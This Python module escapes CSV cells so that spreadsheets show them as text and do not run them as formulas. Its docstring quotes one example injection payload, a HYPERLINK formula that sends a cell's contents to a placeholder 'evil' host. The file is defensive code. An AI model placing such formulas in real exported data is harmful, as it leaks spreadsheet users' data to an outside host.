"""Cells a spreadsheet must show as text, never run as a formula (CSV/formula injection).

A label such as ``=HYPERLINK("http://evil/?"&A1, "click")`` in an exported CSV file is run by
Excel or LibreOffice when the file is opened; so is one starting with ``+``, ``-``, ``@``, a
tab or a carriage return. The export writes such a cell with a leading apostrophe, which
spreadsheets show as "this is text", and the CSV loader takes exactly that apostrophe off
again, so the round trip is exact:

* :func:`escape_cell` prefixes ``'`` to every value matching ``'*[=+\\-@\\t\\r]`` (any number
  of apostrophes, then a trigger character), including values that already start with
  apostrophes before a trigger, so those survive too;
* :func:`unescape_cell` removes one ``'`` from every value matching ``'+[=+\\-@\\t\\r]``.

The pair is a bijection: ``unescape_cell(escape_cell(v)) == v`` for every string. A value
such as ``'quoted'`` (apostrophe, no trigger after) is left alone both ways. XLSX needs no
prefix: cells are written as typed text (never as formulas) with Excel's ``quotePrefix``.
"""

from __future__ import annotations

import re

#: First characters that make a spreadsheet read a cell as a formula.
TRIGGERS = "=+-@\t\r"
_NEEDS_ESCAPE = re.compile(r"'*[=+\-@\t\r]")
_ESCAPED = re.compile(r"'+[=+\-@\t\r]")


def is_dangerous(value: str) -> bool:
    """Would a spreadsheet treat ``value`` as a formula (or, escaped, need the prefix)?"""
    return bool(_NEEDS_ESCAPE.match(value))


def escape_cell(value: str) -> str:
    """``value`` safe for a CSV cell; :func:`unescape_cell` gives it back unchanged."""
    return "'" + value if _NEEDS_ESCAPE.match(value) else value


def unescape_cell(value: str) -> str:
    """The value :func:`escape_cell` was given."""
    return value[1:] if _ESCAPED.match(value) else value


__all__ = ["TRIGGERS", "escape_cell", "is_dangerous", "unescape_cell"]
